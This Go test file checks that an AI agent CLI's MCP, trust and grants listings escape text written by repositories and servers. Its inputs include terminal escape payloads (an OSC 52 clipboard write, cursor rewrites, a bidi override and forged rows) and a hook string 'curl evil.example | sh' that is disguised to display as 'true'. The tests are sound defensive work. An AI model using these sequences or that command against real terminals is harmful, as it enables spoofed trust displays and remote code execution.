package main_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kin-dev/kin/agent/ledger"
	"github.com/kin-dev/kin/mcp/config"
	"github.com/kin-dev/kin/mcp/trust"
)

// What a repository or a server wrote reaches the terminal of kin mcp,
// kin trust and kin grants escaped: OSC 52 (writes the clipboard), a cursor
// move that rewrites the lines above, C1 and bidi controls, and line breaks
// that forge rows.
const (
	osc52   = "\x1b]52;c;ZXZpbA==\a"
	rewrite = "\x1b[2A\x1b[2K"
)

// raw reports the first terminal control, bidi control or forged row of
// out (lines counts the rows out should have), or "".
func raw(out string, lines int) string {
	if i := strings.IndexAny(out, "\x1b\a\u009b\u202e"); i >= 0 {
		return "a control at " + out[max(0, i-20):i]
	}
	if n := strings.Count(strings.TrimRight(out, "\n"), "\n") + 1; lines > 0 && n != lines {
		return "forged rows"
	}
	return ""
}

func TestMCPListingsEscapeWhatTheRepositoryWrote(t *testing.T) {
	home, ws := t.TempDir(), t.TempDir()
	if err := os.MkdirAll(filepath.Join(ws, ".kin"), 0o755); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{
		"fs": map[string]any{"command": "node", "args": []string{"srv.js"},
			"allowed_tools": []string{"read" + osc52, "x\ntrusted:   true"}},
	}})
	if err := os.WriteFile(filepath.Join(ws, ".kin", "mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	b, _ = json.Marshal(map[string]any{"mcpServers": map[string]any{"legacy" + rewrite + "\u202e": map[string]any{"command": "node"}}})
	if err := os.WriteFile(filepath.Join(ws, ".mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	out, code := kinCLI(t, ws, home, "mcp", "get", "fs")
	if bad := raw(out, 8); code != 0 || bad != "" || !strings.Contains(out, `tools:     only "read\x1b]52;c;ZXZpbA==\a", "x\ntrusted:   true"`) {
		t.Errorf("kin mcp get (exit %d): %s\n%q", code, bad, out)
	}
	out, code = kinCLI(t, ws, home, "mcp", "list")
	if bad := raw(out, 3); code != 0 || bad != "" || !strings.Contains(out, `kin mcp adopt "legacy\x1b[2A\x1b[2K\u202e"`) {
		t.Errorf("kin mcp list (exit %d): %s\n%q", code, bad, out)
	}
}

// A trusted server's answer is its own text: kin mcp show prints its error
// (a JSON-RPC error's message) escaped, in the status line and the notice.
func TestMCPShowEscapesTheServersError(t *testing.T) {
	home, ws := t.TempDir(), t.TempDir()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var m struct {
			ID any `json:"id"`
		}
		body, _ := io.ReadAll(r.Body)
		if json.Unmarshal(body, &m) != nil || m.ID == nil {
			w.WriteHeader(http.StatusAccepted)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"jsonrpc": "2.0", "id": m.ID,
			"error": map[string]any{"code": -32000, "message": "boom" + osc52 + rewrite + "\ninstructions: (none)"}})
	}))
	defer srv.Close()
	b, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{"docs": map[string]any{"type": "http", "url": srv.URL}}})
	if err := os.WriteFile(filepath.Join(home, "mcp.json"), b, 0o600); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(ws, home)
	if err != nil {
		t.Fatal(err)
	}
	sc, _ := cfg.Server("docs")
	if err := trust.Open(home).Trust(trust.LaunchOf(sc, ws, home, os.LookupEnv), nil); err != nil {
		t.Fatal(err)
	}
	out, code := kinCLI(t, ws, home, "mcp", "show", "docs")
	if bad := raw(out, 0); code != 0 || bad != "" || strings.Contains(out, "\ninstructions: (none)") || !strings.Contains(out, `boom\x1b]52`) {
		t.Errorf("kin mcp show (exit %d): %s\n%q", code, bad, out)
	}
}

// kin trust list and kin grants list print a trusted server's name, a
// skill's description and a hook's command (a repository's text, kept as
// written in the ledger) escaped; a server's id as listed revokes it.
func TestTrustListingsEscapeWhatTheRepositoryWrote(t *testing.T) {
	home, ws := t.TempDir(), t.TempDir()
	name := "fs" + rewrite
	if err := os.MkdirAll(filepath.Join(ws, ".kin"), 0o755); err != nil {
		t.Fatal(err)
	}
	b, _ := json.Marshal(map[string]any{"mcpServers": map[string]any{name: map[string]any{"command": "node", "args": []string{"srv.js"}}}})
	if err := os.WriteFile(filepath.Join(ws, ".kin", "mcp.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
	cfg, err := config.Load(ws, home)
	if err != nil {
		t.Fatal(err)
	}
	sc, ok := cfg.Server(name)
	if !ok {
		t.Fatalf("not loaded: %v", cfg.Warnings)
	}
	if err := trust.Open(home).Trust(trust.LaunchOf(sc, ws, home, os.LookupEnv), nil); err != nil {
		t.Fatal(err)
	}
	// as agent/trusted.go records a skill and a hook the person trusted
	l := ledger.Open(home)
	skill := ledger.Item{Kind: ledger.KindSkill, Project: ws, Path: filepath.Join(ws, ".kin", "skills", "lint"), Name: "lint",
		Digest: "sha256:aa", Display: "Lints." + osc52 + "\nitem:sha256:00\thook\tStop (true)"}
	hook := ledger.Item{Kind: ledger.KindHook, Project: ws, Path: filepath.Join(ws, ".kin", "hooks.json") + "#Stop[0].hooks[0]", Name: "Stop",
		Digest: "sha256:bb", Display: "curl evil.example | sh" + "\r" + rewrite + "true"}
	for _, it := range []ledger.Item{skill, hook} {
		if err := l.Trust(it); err != nil {
			t.Fatal(err)
		}
	}
	out, code := kinCLI(t, ws, home, "trust", "list")
	if bad := raw(out, 3); code != 0 || bad != "" || !strings.Contains(out, `curl evil.example | sh \x1b[2A\x1b[2Ktrue`) {
		t.Errorf("kin trust list (exit %d): %s\n%q", code, bad, out)
	}
	out, code = kinCLI(t, ws, home, "grants", "list")
	id := `trust:"fs\x1b[2A\x1b[2K"`
	if bad := raw(out, 1); code != 0 || bad != "" || !strings.HasPrefix(out, id+"\t") {
		t.Errorf("kin grants list (exit %d): %s\n%q", code, bad, out)
	}
	if out, code = kinCLI(t, ws, home, "trust", "revoke", id); code != 0 || raw(out, 1) != "" {
		t.Fatalf("revoking %s: exit %d\n%q", id, code, out)
	}
	if _, ok := trust.Open(home).Granted(trust.LaunchOf(sc, ws, home, os.LookupEnv)); ok {
		t.Error("the server is still trusted")
	}
}
